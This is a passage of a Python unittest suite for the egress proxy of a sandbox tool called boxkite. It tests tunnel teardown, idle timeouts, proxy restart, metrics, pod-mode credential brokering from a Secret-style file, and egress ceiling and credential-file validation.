# --- lifecycle, bounds, counters ---------------------------------------------------------------

class Lifecycle(unittest.TestCase):
    def _hold_events(self, since):
        return [e for e in T.far_log.events()[since:] if e["l"] == "hold"]

    def test_the_tunnel_ends_with_its_exec(self):
        mark = len(T.far_log.events())
        script = ("import socket,time\n"
                  "s=socket.create_connection(('127.0.0.1',3128))\n"
                  "s.sendall(b'CONNECT hold.example:80 HTTP/1.1\\r\\n\\r\\n'); s.recv(100)\n"
                  "s.sendall(b'hello\\n'); time.sleep(60)\n")
        r = T.daemon.bkctl("start", "--allow-net", "hold.example:80", "--", "/usr/bin/python3", "-c", script)
        self.assertEqual(r.returncode, 0, r)
        pid = r.stdout.strip()
        bkit.wait_for(lambda: [e for e in self._hold_events(mark) if e["ev"] == "accept"], 10,
                      what="the tunnel to hold.example")
        t0 = time.monotonic()
        self.assertEqual(T.daemon.bkctl("kill", pid).returncode, 0)
        closes = bkit.wait_for(lambda: [e for e in self._hold_events(mark) if e["ev"] == "close"], 10,
                               what="the far end to see the tunnel close")
        self.assertEqual(closes[0]["bytes"], 6, closes)
        # Well before the idle bound (4 s): it ended because the exec did.
        self.assertLess(time.monotonic() - t0, 3.5)

    def test_idle_connections_end(self):
        mark = len(T.far_log.events())
        script = ("import socket, time\n"
                  "s = socket.create_connection(('127.0.0.1', 3128))\n"
                  "s.sendall(b'CONNECT hold.example:80 HTTP/1.1\\r\\n\\r\\n')\n"
                  "s.recv(100)\n"
                  "s.settimeout(20)\n"
                  "t = time.time()\n"
                  "print(s.recv(10), round(time.time() - t))\n")
        rc, out, err = py(["hold.example:80"], script)
        self.assertEqual(rc, 0, err)
        got, secs = out.split()
        self.assertEqual(got, "b''", out)
        self.assertGreaterEqual(int(secs), 3, out)
        self.assertLessEqual(int(secs), 8, out)
        self.assertTrue([e for e in self._hold_events(mark) if e["ev"] == "close"])

    def test_a_proxy_that_dies_is_started_again_and_keeps_the_grants(self):
        r = T.daemon.bkctl("start", "--allow-net", "pkg.example:80", "--", "/bin/sh", "-c",
                           "sleep 3; curl -sS http://pkg.example/echo/after-restart")
        self.assertEqual(r.returncode, 0, r)
        pid = r.stdout.strip()
        old = T.egress_pid()
        os.kill(old, signal.SIGKILL)
        new = bkit.wait_for(lambda: (lambda p: p if p != old else None)(self._egress_or_none()), 10,
                            what="a new egress proxy")
        self.assertNotEqual(new, old)
        # The running process's grant was handed to the new one.
        w = T.daemon.bkctl("wait", pid, timeout=30)
        self.assertEqual(w.returncode, 0, w)
        logs = T.daemon.bkctl("logs", pid)
        self.assertEqual(logs.stdout, "pkg ok /echo/after-restart\n", logs)
        # And a new exec is served.
        rc, out, err = sh(G80, "curl -sS http://pkg.example/echo/new-after-restart")
        self.assertEqual((rc, out), (0, "pkg ok /echo/new-after-restart\n"), err)

    def _egress_or_none(self):
        try:
            return T.egress_pid()
        except AssertionError:
            return None

    def test_metrics(self):
        sh(G80, "curl -sS http://pkg.example/echo/m; curl -sS http://other.example/ ; true")
        text = bkit.run(["curl", "-sS", f"http://127.0.0.1:{HTTP_PORT}/metrics"], netns=T.sc, check=True).stdout
        counts = dict(re.findall(r'^boxkite_egress_connections_total\{verdict="(\w+)"\} (\d+)$', text, re.M))
        self.assertGreater(int(counts["allowed"]), 0, text)
        self.assertGreater(int(counts["refused"]), 0, text)
        self.assertRegex(text, r'boxkite_egress_bytes_total\{direction="down"\} [1-9]')
        self.assertIn("boxkite_egress_connections_open", text)


# A plain HTTP server on the machine's loopback that says which Authorization header it got.
AUTH_ECHO = r"""
import http.server, sys
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = ("auth=%s path=%s" % (self.headers.get_all("Authorization"), self.path)).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *a):
        pass
s = http.server.HTTPServer(("127.0.0.1", 0), H)
print(s.server_address[1], flush=True)
s.serve_forever()
"""


class PodModeEgress(unittest.TestCase):
    """Pod mode works the same: the proxy dials from the sidecar's network namespace (here the
    emulated pod's, the machine's own, so only its loopback is dialled: the ceiling names it
    exactly), and a brokered plain-HTTP destination gets the operator's header, from a file laid out
    as a Kubernetes Secret volume lays it out, rewritten in place, with the CA bundle mounted on the
    sandbox image's /run/boxkite."""

    def test_pod_mode(self):
        with bkit.scope():
            srv = bkit.popen([bkit.PYTHON, "-u", "-c", AUTH_ECHO], stdout=subprocess.PIPE, text=True)
            port = int(srv.stdout.readline())
            # The credential as a Secret volume lays it out (defaultMode 0400): the name a
            # symbolic link through ..data to the current timestamped directory.
            d = bkit.temp_dir("egress-pod")
            (d / "..2026_01_01_00_00_00.1").mkdir()
            real = d / "..2026_01_01_00_00_00.1" / "cred"
            real.write_text("Authorization: Bearer pod-secret\n")
            os.chmod(real, 0o400)
            os.symlink("..2026_01_01_00_00_00.1", d / "..data")
            cred = d / "cred"
            os.symlink("..data/cred", cred)
            pod = bkit.Pod(tag="egresspod", daemon_args=[f"--egress-allow=127.0.0.1:{port}",
                                                          f"--egress-credential=127.0.0.1:{port}={cred}"])
            pod.daemon.start()
            pod.start_container()
            bkit.wait_for(lambda: pod.daemon.health().get("sandbox_ready") is True, 10, what="the pod's sandbox")
            rc, obj, err = pod.daemon.exec_json(
                "--allow-net", f"127.0.0.1:{port}", "--shell",
                f"curl -sS --noproxy '' -H 'Authorization: forged' http://127.0.0.1:{port}/pod; echo; "
                "head -c 27 $SSL_CERT_FILE", timeout=60)
            self.assertEqual(rc, 0, (obj, err))
            self.assertEqual(obj["stdout"], f"auth=['Bearer pod-secret'] path=/pod\n-----BEGIN CERTIFICATE-----",
                             obj)
            # Without the grant: nothing.
            rc, obj, err = pod.daemon.exec_json("--shell", f"curl -sS -m 3 http://127.0.0.1:{port}/x", timeout=60)
            self.assertNotEqual(obj["exit_code"], 0, obj)


class Ceiling(unittest.TestCase):
    def test_health_tells_a_keyed_caller_the_ceiling(self):
        r = T.daemon.bkctl("-o", "json", "verify", timeout=90)
        out = json.loads(r.stdout)
        self.assertEqual(sorted(out["egress_ceiling"]), sorted(topo.CEILING), out)

    def test_no_ceiling_no_grant(self):
        with bkit.scope():
            d = bkit.Daemon("egress-none").start()
            r = d.bkctl("exec", "--allow-net", "pkg.example:80", "--", "true")
            self.assertEqual(r.returncode, bkit.EXIT_FAILED, r)
            self.assertIn("PERMISSION_DENIED", r.stderr)
            self.assertIn("--egress-allow", r.stderr)
            # And no proxy runs.
            ex = d.executor_pid()
            self.assertEqual([p for p in bkit.proc_children(ex) if bkit.proc_comm(p) == "boxkite-egress"], [])

    def test_credential_file_mode_and_form(self):
        with bkit.scope():
            d = bkit.temp_dir("egress-cred")
            loose, bad = d / "loose", d / "bad"
            loose.write_text("Authorization: Bearer x\n")
            os.chmod(loose, 0o644)
            bad.write_text("not a header line\n")
            os.chmod(bad, 0o600)
            for f, why in ((loose, "mode 0644"), (bad, "Name: value")):
                daemon = bkit.Daemon("egress-badcred", args=["--egress-allow", "api.example:443",
                                                             f"--egress-credential=api.example:443={f}"])
                with self.assertRaises(AssertionError) as e:
                    daemon.start(ready_timeout=10)
                self.assertIn(why, str(e.exception))
            # A credential outside the ceiling is a configuration error.
            r = bkit.run([bkit.BOXKITED, "--listen", "ipc:///nonexistent/x", "--egress-allow", "pkg.example:80",
                          f"--egress-credential=api.example:443={loose}"])
            self.assertEqual(r.returncode, 2, r)
            self.assertIn("not within --egress-allow", r.stderr)


if __name__ == "__main__":
    unittest.main()
